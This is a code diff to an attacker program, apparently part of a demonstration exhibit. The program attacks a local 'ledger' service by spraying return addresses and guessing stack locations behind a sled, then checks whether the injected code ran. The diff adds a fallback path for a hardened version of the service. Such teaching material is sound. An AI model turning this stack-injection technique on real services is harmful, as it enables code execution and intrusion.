@@ -29,7 +29,8 @@ enum { ELF_PHOFF = 0x20, ELF_P_OFFSET = 0x08, ELF_P_FILESZ = 0x20 };
 
 /* Without randomised addresses, stacks begin here (48-bit addresses). */
 #define STACK_TOP 0x1000000000000ul
-enum { SLED_BYTES = 0x1000, RETURN_COPIES = 64, GUESSES = 64, PAUSE_MICROSECONDS = 1000 };
+enum { SLED_BYTES = 0x1000, RETURN_COPIES = 64, GUESSES = 64, GUESSES_IN_VAIN = 16,
+       PAUSE_MICROSECONDS = 1000 };
 
 static int descriptor = -1;
 unsigned char *attacker_post;
@@ -55,9 +56,14 @@ static void make_post(void)
 
 int attacker_connect(void)
 {
+    return attacker_connect_to(LEDGER_SOCKET);
+}
+
+int attacker_connect_to(const char *path)
+{
     for (;;) {
         struct message m = { .claim = LEDGER_ATTACKER, .label = LABEL_POST };
-        int connection = channel_connect(LEDGER_SOCKET);
+        int connection = channel_connect(path);
 
         if (connection >= 0 && channel_call(connection, &m, descriptor)) {
             return connection;
@@ -84,37 +90,62 @@ bool attacker_note(int connection, size_t bytes)
     return channel_call(connection, &m, -1);
 }
 
-/* True if the injected code ran.  It never answers: the end of the connection is the end of it. */
+/* After a request that had no answer: waits until the service has ended, or the injected code has
+   begun.  True if the latter. */
+bool attacker_settle(uint64_t deaths, uint64_t lives)
+{
+    volatile const struct exhibit *e = attacker_exhibit();
+
+    while (e->deaths == deaths && e->lives == lives) {
+        (void)usleep(PAUSE_MICROSECONDS);
+    }
+    return e->lives != lives;
+}
+
+/* The injected code never answers: the end of the connection is the end of it. */
 static bool inject(uint64_t address)
 {
-    uint64_t lives = attacker_exhibit()->lives;
     size_t bytes = attacker_fill_post(0);
-    int connection = attacker_connect();
+    int connection = attacker_connect(); /* this life of the service begins here */
+    uint64_t lives = attacker_exhibit()->lives, deaths = attacker_exhibit()->deaths;
 
     for (size_t i = 0; i < RETURN_COPIES; i++) {
         memcpy(attacker_post + i * sizeof(address), &address, sizeof(address));
     }
+    attacker_wait_for_client();
+    (void)attacker_note(connection, bytes);
+    (void)close(connection);
+    return attacker_settle(deaths, lives);
+}
+
+void attacker_wait_for_client(void)
+{
     while (attacker_exhibit()->patient != 0 && attacker_exhibit()->client_post == 0) {
         (void)usleep(PAUSE_MICROSECONDS);
     }
-    (void)attacker_note(connection, bytes);
-    (void)close(connection);
-    return attacker_exhibit()->lives != lives;
+}
+
+void attacker_finish(enum variant variant)
+{
+    volatile struct exhibit *e = attacker_exhibit();
+
+    e->variants[variant].status = e->status;
+    e->variants[variant].finished = 1;
 }
 
 /* Guesses downwards from the top of the stack; the sled is as long as a step. */
-static void attack_plain(void)
+static void guess_stack(uint64_t most)
 {
-    for (uint64_t i = 1; i <= GUESSES; i++) {
+    volatile struct exhibit *e = attacker_exhibit();
+
+    for (uint64_t i = 1; i <= most && e->lives == 0; i++) {
         uint64_t address = STACK_TOP - i * SLED_BYTES;
 
-        attacker_exhibit()->tries = i;
-        while (attacker_exhibit()->over == 0 && inject(address)) {
-        }
-        if (attacker_exhibit()->lives > 0) {
-            return;
+        e->variants[STACK_GUESS].tries = i;
+        while (e->over == 0 && inject(address)) {
         }
     }
+    attacker_finish(STACK_GUESS);
 }
 
 int main(void)
@@ -126,8 +157,13 @@ int main(void)
     }
     service_draw_cookie();
     make_post();
-    attack_plain();
-    attacker_exhibit()->gave_up = attacker_exhibit()->lives == 0;
+    if (attacker_exhibit()->hardened == 0) {
+        guess_stack(GUESSES);
+    } else {
+        guess_stack(GUESSES_IN_VAIN);
+        attack_hardened();
+    }
+    attacker_exhibit()->gave_up = attacker_exhibit()->over == 0;
     for (;;) {
         (void)pause();
     }
